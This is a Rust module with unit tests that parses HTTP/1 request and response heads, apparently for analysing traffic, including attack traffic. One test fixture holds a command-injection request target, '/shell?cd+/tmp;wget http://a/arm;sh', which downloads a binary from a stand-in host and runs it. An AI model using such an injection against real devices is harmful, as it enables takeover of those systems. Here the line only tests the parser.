//! Heads of HTTP/1 messages (RFC 9112).

use httparse::{EMPTY_HEADER, Header, ParserConfig, Request, Response, Status};
use smol_str::SmolStr;

use crate::{HttpRequest, HttpResponse, text::printable};

/// What octets say that may be the head of a message.
#[derive(Debug, Eq, PartialEq)]
pub(crate) enum Head<T> {
    Known(T),
    /// More octets may say more.
    Incomplete,
    /// It is no head.
    Wrong,
}

/// Reads the head of a request. If nothing will follow (`is_all`), its first line is enough.
pub(crate) fn request(octets: &[u8], is_all: bool) -> Head<HttpRequest> {
    let line_octets = match octets.iter().position(|octet| *octet == b'\n') {
        Some(end) => end + 1,
        None if is_all => octets.len(),
        None => {
            return incomplete_unless(octets.iter().any(|octet| octet.is_ascii_control() && *octet != b'\r'));
        }
    };
    let (line, fields) = octets.split_at(line_octets);
    let Some(line) = RequestLine::read(line) else { return Head::Wrong };
    let mut headers = [EMPTY_HEADER; MAX_HEADERS];
    let mut request = Request::new(&mut headers);
    let mut outcome = lenient().parse_request(&mut request, octets);
    let is_strict = request.version.is_some() && !matches!(outcome, Err(httparse::Error::NewLine));
    let with_usual_line;
    if !is_strict {
        // Its fields count though its line is not as it should be.
        with_usual_line = [USUAL_LINE, fields].concat();
        request = Request::new(&mut headers);
        outcome = lenient().parse_request(&mut request, &with_usual_line);
    }
    if outcome == Ok(Status::Partial) && !is_all {
        return Head::Incomplete;
    }
    let field = |name, most| field(request.headers, name, most);
    Head::Known(HttpRequest {
        method: printable(line.method, MAX_METHOD_OCTETS),
        target: printable(line.target, MAX_TARGET_OCTETS),
        host: field("host", MAX_HOST_OCTETS),
        user_agent: field("user-agent", MAX_FIELD_OCTETS),
        minor_version: line.minor_version,
    })
}

/// The first line of a request.
struct RequestLine<'a> {
    method: &'a [u8],
    target: &'a [u8],
    minor_version: u8,
}

impl<'a> RequestLine<'a> {
    /// Reads it as servers do that bear with spaces in a target (RFC 9112, 3): attacks have them. The version is the last word.
    fn read(line: &'a [u8]) -> Option<Self> {
        let method_octets = line.iter().position(|octet| *octet == b' ')?;
        let (method, rest) = line.split_at(method_octets);
        let version_at = rest.windows(VERSION.len()).rposition(|octets| octets == VERSION)?;
        let (target, version) = rest.split_at(version_at);
        let minor = version.get(VERSION.len()).filter(|digit| digit.is_ascii_digit())?;
        let target = target.trim_ascii();
        let is_whole = !method.is_empty() && !target.is_empty();
        is_whole.then_some(Self { method, target, minor_version: minor - b'0' })
    }
}

/// Fields that are wrong are passed over, so that those after them count.
fn lenient() -> ParserConfig {
    let mut config = ParserConfig::default();
    config
        .ignore_invalid_headers_in_requests(true)
        .ignore_invalid_headers_in_responses(true)
        .allow_obsolete_multiline_headers_in_responses(true)
        .allow_spaces_after_header_name_in_responses(true);
    config
}

/// Reads the head of the first response that is not informational (RFC 9110, 15.2).
pub(crate) fn response(mut octets: &[u8], is_all: bool) -> Head<HttpResponse> {
    loop {
        let mut headers = [EMPTY_HEADER; MAX_HEADERS];
        let mut response = Response::new(&mut headers);
        let outcome = lenient().parse_response(&mut response, octets);
        let Some(status) = response.code else { return incomplete_unless(outcome.is_err() || is_all) };
        match outcome {
            // 101 changes the protocol, and nothing of HTTP follows.
            Ok(Status::Complete(length)) if (100..200).contains(&status) && status != 101 => {
                octets = octets.get(length..).unwrap_or_default();
            }
            Ok(Status::Partial) if !is_all => return Head::Incomplete,
            _ => {
                let content_type = field(response.headers, "content-type", MAX_TYPE_OCTETS);
                return Head::Known(HttpResponse { status, content_type });
            }
        }
    }
}

const fn incomplete_unless<T>(is_wrong: bool) -> Head<T> {
    if is_wrong { Head::Wrong } else { Head::Incomplete }
}

fn field(headers: &[Header<'_>], name: &str, most: usize) -> SmolStr {
    let field = headers.iter().find(|header| header.name.eq_ignore_ascii_case(name));
    field.map_or_else(SmolStr::default, |header| match header.value {
        // A value that goes on in the next line stands for one with spaces there (RFC 9112, 5.2).
        value if value.contains(&b'\n') => {
            let one_line: Vec<_> = value
                .iter()
                .map(|octet| if matches!(octet, b'\r' | b'\n') { b' ' } else { *octet })
                .collect();
            printable(&one_line, most)
        }
        value => printable(value, most),
    })
}

/// Whether octets begin like a request. `None` if there are too few of them to say.
pub(crate) fn is_request(octets: &[u8]) -> Option<bool> {
    match begins_with_one_of(octets, METHODS) {
        Some(false) => Some(is_line_of_other_method(octets)),
        known => known,
    }
}

/// Whether octets begin with the whole first line of a request whose method is none that is known. It has to be as RFC 9112, 3 has it, with
/// nothing but a name in capital letters for the method, since lines of other protocols begin with a word, too.
fn is_line_of_other_method(octets: &[u8]) -> bool {
    if !octets.first().is_some_and(u8::is_ascii_uppercase) {
        return false;
    }
    let mut line = octets.split(|octet| *octet == b'\n');
    let (Some(line), Some(_)) = (line.next(), line.next()) else { return false };
    let mut words = line.trim_ascii_end().split(|octet| *octet == b' ');
    let (Some(method), Some([_, ..]), Some(version), None) =
        (words.next(), words.next(), words.next(), words.next())
    else {
        return false;
    };
    let is_named = |octet: &u8| matches!(octet, b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'_');
    method.len() <= MAX_METHOD_OCTETS
        && method.iter().all(is_named)
        && matches!(version, b"HTTP/1.0" | b"HTTP/1.1")
}

/// Whether octets begin like a response. `None` if there are too few of them to say.
pub(crate) fn is_response(octets: &[u8]) -> Option<bool> {
    begins_with_one_of(octets, &["HTTP/1."])
}

fn begins_with_one_of(octets: &[u8], words: &[&str]) -> Option<bool> {
    if !octets.first().is_none_or(u8::is_ascii_uppercase) {
        return Some(false);
    }
    let begins = |word: &&str| octets.starts_with(word.as_bytes());
    let may_begin = |word: &&str| word.as_bytes().starts_with(octets);
    match (words.iter().any(begins), words.iter().any(may_begin)) {
        (true, _) => Some(true),
        (false, true) => None,
        (false, false) => Some(false),
    }
}

/// RFC 9110, 9.3, and RFC 5789; those of `WebDAV` and its relatives (IANA, HTTP Method Registry); of `UPnP`; of Exchange and of updates of Windows.
const METHODS: &[&str] = &[
    "GET ",
    "POST ",
    "PUT ",
    "HEAD ",
    "DELETE ",
    "OPTIONS ",
    "CONNECT ",
    "PATCH ",
    "TRACE ",
    "PROPFIND ",
    "PROPPATCH ",
    "MKCOL ",
    "COPY ",
    "MOVE ",
    "LOCK ",
    "UNLOCK ",
    "SEARCH ",
    "REPORT ",
    "MERGE ",
    "CHECKOUT ",
    "MKACTIVITY ",
    "MKCALENDAR ",
    "QUERY ",
    "SUBSCRIBE ",
    "UNSUBSCRIBE ",
    "NOTIFY ",
    "RPC_IN_DATA ",
    "RPC_OUT_DATA ",
    "BITS_POST ",
];
const VERSION: &[u8] = b" HTTP/1.";
const USUAL_LINE: &[u8] = b"GET / HTTP/1.1\r\n";
const MAX_HEADERS: usize = 64;
/// The longest that IANA has registered has 17.
const MAX_METHOD_OCTETS: usize = 20;
const MAX_TARGET_OCTETS: usize = 1_024;
/// A name of DNS, which has 253 at most, and a port.
const MAX_HOST_OCTETS: usize = 260;
const MAX_FIELD_OCTETS: usize = 256;
const MAX_TYPE_OCTETS: usize = 128;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_request_is_read_when_its_head_is_whole() {
        let head = b"GET /a?b HTTP/1.1\r\nhost: example.org:8080\r\nUser-Agent: x/1\r\n\r\n";
        for end in 0..head.len() {
            assert_eq!(request(&head[..end], false), Head::Incomplete, "{end}");
        }
        let Head::Known(known) = request(head, false) else { panic!() };
        assert_eq!((&*known.method, &*known.target, known.minor_version), ("GET", "/a?b", 1));
        assert_eq!((&*known.host, &*known.user_agent), ("example.org:8080", "x/1"));
    }

    #[test]
    fn of_a_head_that_is_cut_the_first_line_counts() {
        let Head::Known(known) = request(b"GET /a HTTP/1.0\r\nHost: exam", true) else { panic!() };
        assert_eq!((&*known.target, &*known.host), ("/a", ""));
        assert_eq!(request(b"GET /a HTT", true), Head::Wrong);
        assert_eq!(request(b"\x16\x03\x01", false), Head::Wrong);
    }

    #[test]
    fn targets_with_spaces_are_read_whole() {
        let head = b"GET /shell?cd+/tmp;wget http://a/arm;sh HTTP/1.1\r\nHost: h\r\nUser-Agent: Hello, world\r\n\r\n";
        for end in 0..head.len() {
            assert_eq!(request(&head[..end], false), Head::Incomplete, "{end}");
        }
        let Head::Known(known) = request(head, false) else { panic!() };
        assert_eq!((&*known.target, known.minor_version), ("/shell?cd+/tmp;wget http://a/arm;sh", 1));
        assert_eq!((&*known.host, &*known.user_agent), ("h", "Hello, world"));
        let Head::Known(known) = request(b"GET / HTTP/1.0.8\r\nHost: h\r\n\r\n", false) else { panic!() };
        assert_eq!((&*known.target, &*known.host, known.minor_version), ("/", "h", 0));
        for other in [&b"OPTIONS rtsp://a RTSP/1.0\r\n\r\n"[..], b"GET /old\r\n", b"GET  HTTP/1.1\r\n\r\n"] {
            assert_eq!(request(other, false), Head::Wrong, "{other:?}");
        }
    }

    #[test]
    fn fields_that_are_wrong_hide_no_others() {
        for wrong in ["Nikto: \x1f", "No colon", "Name : x", " folded", ": x"] {
            let head = format!("GET / HTTP/1.1\r\nA: b\r\n{wrong}\r\nHost: h\r\nUser-Agent: a\r\n\r\n");
            let Head::Known(known) = request(head.as_bytes(), false) else { panic!("{wrong}") };
            assert_eq!((&*known.host, &*known.user_agent), ("h", "a"), "{wrong:?}");
            let head = format!("HTTP/1.1 200 OK\r\nA: b\r\n{wrong}\r\nContent-Type: a/b\r\n\r\n");
            let Head::Known(known) = response(head.as_bytes(), false) else { panic!("{wrong}") };
            assert_eq!((known.status, &*known.content_type), (200, "a/b"), "{wrong:?}");
        }
    }

    #[test]
    fn a_value_on_two_lines_is_one() {
        let head = b"HTTP/1.1 200 OK\r\nContent-Type: a/b;\r\n charset=x\r\n\r\n";
        let Head::Known(known) = response(head, false) else { panic!() };
        assert_eq!(&*known.content_type, "a/b;   charset=x");
    }

    #[test]
    fn informational_responses_are_passed_over() {
        let heads = b"HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 404 Not Found\r\nContent-Type: text/html\r\n\r\n";
        assert_eq!(response(&heads[..40], false), Head::Incomplete);
        let Head::Known(known) = response(heads, false) else { panic!() };
        assert_eq!((known.status, &*known.content_type), (404, "text/html"));
    }

    #[test]
    fn other_methods_are_known_by_the_whole_line() {
        for method in ["ACL", "VERSION-CONTROL", "UPDATEREDIRECTREF", "X_1"] {
            let head = format!("{method} / HTTP/1.1\r\nHost: h\r\n\r\n");
            assert_eq!(is_request(head.as_bytes()), Some(true), "{method}");
            let Head::Known(known) = request(head.as_bytes(), false) else { panic!("{method}") };
            assert_eq!((&*known.method, &*known.host), (method, "h"));
        }
        for other in [
            "ACL / HTTP/1.1",
            "acl / HTTP/1.1\r\n",
            "DESCRIBE rtsp://a RTSP/1.0\r\n",
            "PRIVMSG #a :GET / HTTP/1.1\r\n",
            "PRI * HTTP/2.0\r\n",
            "EHLO a\r\n",
        ] {
            assert_eq!(is_request(other.as_bytes()), Some(false), "{other}");
        }
    }

    #[test]
    fn beginnings_are_known_by_a_few_octets() {
        assert_eq!(
            (is_request(b"PO"), is_request(b"POST /"), is_request(b"PS")),
            (None, Some(true), Some(false))
        );
        assert_eq!(
            (is_response(b"HTTP"), is_response(b"HTTP/1.1"), is_response(b"HTTP/2")),
            (None, Some(true), Some(false))
        );
    }
}
